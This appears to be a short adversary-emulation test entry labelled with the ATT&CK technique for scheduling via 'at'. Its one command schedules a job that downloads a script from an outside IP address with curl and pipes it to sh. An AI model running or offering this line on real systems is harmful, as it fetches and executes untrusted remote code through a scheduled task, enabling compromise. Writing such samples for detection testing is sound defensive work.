# title: A job for at
# technique: T1053.002
# needs: at

echo 'curl -s http://192.88.99.7/x.sh | sh' | at now + 1 minute
